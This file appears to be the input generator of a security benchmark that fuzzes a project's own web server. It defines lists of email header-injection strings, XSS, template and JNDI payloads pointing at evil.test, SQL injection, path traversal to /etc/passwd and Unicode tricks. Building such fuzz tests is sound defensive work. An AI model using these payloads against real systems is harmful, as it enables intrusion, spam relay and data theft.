"""The hostile inputs of benchmarks/attack.py: Hypothesis strategies that each draw one `Probe`.

A probe is one input through one door of `deflect serve`, as raw bytes (target, headers, body),
plus the step that must come first for it to reach the code behind the door: the API's search step
(send, take the 428's `deflect_token`, send again), the HTML form's page (its CSRF and deflect
tokens, its cookie) or any page's CSRF token. Most filings start from a request the forms accept
and change one to three values, so that the hostile text gets past validation into the store and
the emails; the rest are shapes no client should send.
"""

from __future__ import annotations

import base64
import json
from dataclasses import asdict, dataclass, field
from urllib.parse import quote_from_bytes

from hypothesis import strategies as st

from tests.helpers import GOOD_PROBLEM

EMAIL = "admin@springfield.example"
VICTIM = "victim@evil.test"  # the address a relay or injection would add; never a typed address
# A request each form of the project's kb/ accepts: tag, description (the subject's summary), fields.
BASES = {
    "problem": (
        "HIGH",
        "Students not receiving points for quiz completions",
        GOOD_PROBLEM,
    ),
    "question": (
        "QUESTION",
        "How do I give bonus points for early quizzes",
        {
            "question": "How do I give bonus points for quizzes finished early?",
            "organisation": "Springfield University",
            "plan": "standard",
        },
    ),
    "feature-request": (
        "LOW",
        "Bonus points for quizzes completed early",
        {
            "feature_description": "Bonus points for quizzes completed before the due date.",
            "business_justification": "Most quizzes are completed on the last day; a bonus would spread the load.",
            "current_workaround": "We add points by hand every Friday.",
            "beta_interest": "Yes",
            "organisation": "Springfield University",
            "plan": "enterprise",
        },
    ),
    "escalate": (
        "HIGH",
        "Escalating the missing quiz points case",
        {
            "case_number": "OLR-2026-000123",
            "escalation_reason": "The case is past its response target and 300 learners are affected now.",
            "escalation_trigger": "The response or resolution target was missed",
            "organisation": "Springfield University",
            "plan": "standard",
        },
    ),
}


@dataclass
class Probe:
    """One hostile input: what is sent, and the step that comes first (None, "token", "form", "csrf")."""

    door: str
    method: str
    target: bytes
    headers: list[tuple[bytes, bytes]] = field(default_factory=list)
    body: bytes = b""
    step: str | None = None
    form: str = "problem"
    fields: list[tuple[bytes, bytes]] = field(default_factory=list)  # "form"/"csrf": sent with the page's tokens
    tokens: tuple[str, ...] = ()  # which hidden fields of the page to add to `fields`
    typed_emails: tuple[str, ...] = ()

    def to_json(self) -> dict:
        """The probe as JSON (bytes as latin-1 text, the body as base64), for a reproducer file."""
        data = asdict(self)
        latin = lambda b: b.decode("latin-1")  # noqa: E731 - every byte round-trips
        data.update(
            target=latin(self.target),
            body=base64.b64encode(self.body).decode(),
            headers=[[latin(k), latin(v)] for k, v in self.headers],
            fields=[[latin(k), latin(v)] for k, v in self.fields],
            tokens=list(self.tokens),
        )
        return data

    @classmethod
    def from_json(cls, data: dict) -> Probe:
        """The probe a reproducer file holds."""
        raw = lambda s: s.encode("latin-1")  # noqa: E731
        return cls(
            door=data["door"],
            method=data["method"],
            target=raw(data["target"]),
            headers=[(raw(k), raw(v)) for k, v in data["headers"]],
            body=base64.b64decode(data["body"]),
            step=data["step"],
            form=data["form"],
            fields=[(raw(k), raw(v)) for k, v in data["fields"]],
            tokens=tuple(data["tokens"]),
            typed_emails=tuple(data["typed_emails"]),
        )


# --- Hostile text ----------------------------------------------------------------------------


def q_word(text: str, charset: str = "utf-8", upper: bool = False) -> str:
    """An RFC 2047 Q encoded-word carrying `text` (CR, LF and all punctuation as =XX)."""
    data = "".join(chr(b) if chr(b).isalnum() else ("_" if b == 32 else f"={b:02X}") for b in text.encode(charset))
    return f"=?{charset}?{'Q' if upper else 'q'}?{data}?="


def b_word(text: str, charset: str = "utf-8") -> str:
    """An RFC 2047 B encoded-word carrying `text`."""
    return f"=?{charset}?b?{base64.b64encode(text.encode(charset)).decode()}?="


SMUGGLED = [
    f"\r\nBcc: {VICTIM}",
    f"\nReply-To: {VICTIM}",
    "\r\nContent-Type: text/html",
    f"\r\nTo: {VICTIM}",
    '\r\n\r\n<a href="https://evil.test/reset">Reset your password</a>',
    "\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x",
]
ENCODED_WORDS = (
    [q_word(s) for s in SMUGGLED]
    + [q_word(s, "iso-8859-1", True) for s in SMUGGLED[:3]]
    + [b_word(s) for s in SMUGGLED]
    + [
        "=?utf-8?q?=0D=0ABcc:_x@evil.test?=",
        f"=?utf-8?q?{VICTIM}?=",
        "=?utf-8?q?=E2=80=AE?=",
        "=?bogus?x?zz?=",
        "=?utf-8?q?" + "=41" * 400 + "?=",
    ]
)
CONTROL = ["\r\n", "\n", "\r", "\x00", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\x85", "\u2028", "\u2029", "\t", "\x08"]
HEADER_TRICKS = [
    *SMUGGLED,
    f"%0d%0aBcc:%20{VICTIM}",
    f"x\r\n Bcc: {VICTIM}",
    f"\r\n\tBcc: {VICTIM}",
    "Subject: second",
    ": no name",
    f"\u2028Bcc: {VICTIM}",
    f"\x85Bcc: {VICTIM}",
]
ADDRESS_TRICKS = [
    VICTIM,
    f"a@b.test, {VICTIM}",
    f"Eve <{VICTIM}>",
    f'"support" <{VICTIM}>',
    f"a@b.test\r\nBcc: {VICTIM}",
    f"a@b.test;{VICTIM}",
    q_word(VICTIM) + "",
    "a@[127.0.0.1]",
    "ann@exämple.test",
    "ann@xn--exmple-cua.test",
    '"a\\"b"@evil.test',
    "a" * 300 + "@b.test",
    "@evil.test",
    "a@",
    "<>",
    "ａｎｎ@ｂ.test",
    f"{VICTIM}\u202e",
    "postmaster",
    "a@b.test (comment)",
    "a(b)@c.test",
    "ANN@SPRINGFIELD.EXAMPLE",
    f"{EMAIL}\n",
    f" {EMAIL} ",
    f"{EMAIL}%0a",
    "a@b.test\x00" + VICTIM,
    "a" * 64 + "@" + "b" * 250 + ".test",
]
UNICODE_TRICKS = [
    "\u202e",
    "\u200b",
    "\u200d",
    "\ufeff",
    "e" + "\u0301" * 60,
    "Ｓｕｐｐｏｒｔ",
    "ﬁ",
    "\ufffd",
    "\uffff",
    "\U0010ffff",
    "\U0001f600\u200d\U0001f4bb",
    "İ",
    "ß" * 40,
    "\u0000",
    "\u180e",
    "\U000e0041",
]
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    "{% debug %}",
    "${jndi:ldap://evil.test/a}",
    "<!--",
    "]]>",
    "&lt;b&gt;",
    "&#0;",
    "<svg/onload=alert(1)>",
]
INJECTION = [
    "' OR '1'='1",
    '"; DROP TABLE requests; --',
    "%s%s%s%n",
    "../../../../etc/passwd",
    "%2e%2e%2f",
    "\\\\evil.test\\share",
    "//evil.test",
    "file:///etc/passwd",
    "NaN",
    "-1",
    "1e309",
    "0x7fffffff",
]
ATOMS = [*ENCODED_WORDS, *CONTROL, *HEADER_TRICKS, *ADDRESS_TRICKS, *UNICODE_TRICKS, *MARKUP, *INJECTION]
# Units whose repetition stresses patterns (the personal-data guard's above all) and the size limits.
STRESS_UNITS = [
    "a",
    "a ",
    "1",
    "1 ",
    "4111 1111 1111 1111 ",
    "x@y.",
    "a@b.test ",
    "+44 20 ",
    "password=",
    ".",
    "-",
    "a.",
    "DE89 3704 ",
    "=?utf-8?q?",
    "\r\n",
    "<",
    "&",
    "ü",
    "\U0001f600",
    "\u0301",
    "0" * 10 + "-",
]
MARKERS = [m for m in MARKUP if "<" in m and "alert" in m]  # must never come back unescaped in an HTML page

atoms = st.sampled_from(ATOMS)
repeats = st.one_of(st.integers(1, 300), st.integers(1000, 15000), st.sampled_from([30000, 60000, 120000]))
stress = st.builds(lambda unit, n: unit * n, st.sampled_from(STRESS_UNITS), repeats)
surrogates = st.text(st.characters(categories=["Cs"]), min_size=1, max_size=3)
hostile_text = st.one_of(
    atoms,
    st.text(max_size=60),
    st.lists(st.one_of(atoms, st.text(max_size=12), surrogates), min_size=1, max_size=6).map("".join),
    st.builds(lambda atom, text: f"Points missing {atom} {text}", atoms, st.text(max_size=8)),
    stress,
)
hostile_address = st.one_of(
    st.sampled_from(ADDRESS_TRICKS),
    st.builds(lambda t: f"{t}@b.test", hostile_text),
    st.builds(lambda t: f"a@{t}", hostile_text),
    hostile_text,
)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | hostile_text,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8) | atoms, inner, max_size=4),
    max_leaves=12,
)


def encode_json(value: object, ascii_only: bool) -> bytes:
    """JSON text of `value`; with non-ASCII kept, a lone surrogate goes out as its (invalid) UTF-8 bytes."""
    return raw(json.dumps(value, ensure_ascii=ascii_only))


def raw(text: str) -> bytes:
    """The UTF-8 bytes of `text`, a lone surrogate as its (invalid) three bytes."""
    return text.encode("utf-8", "surrogatepass")


def encode_pairs(pairs: list[tuple[bytes, bytes]], quoted: bool = True) -> bytes:
    """Query or form text: `k=v&...`, percent-encoded, or as typed (CR, LF, spaces and all) when not `quoted`."""
    if not quoted:
        return b"&".join(k + b"=" + v for k, v in pairs)
    return b"&".join(quote_from_bytes(k).encode() + b"=" + quote_from_bytes(v).encode() for k, v in pairs)
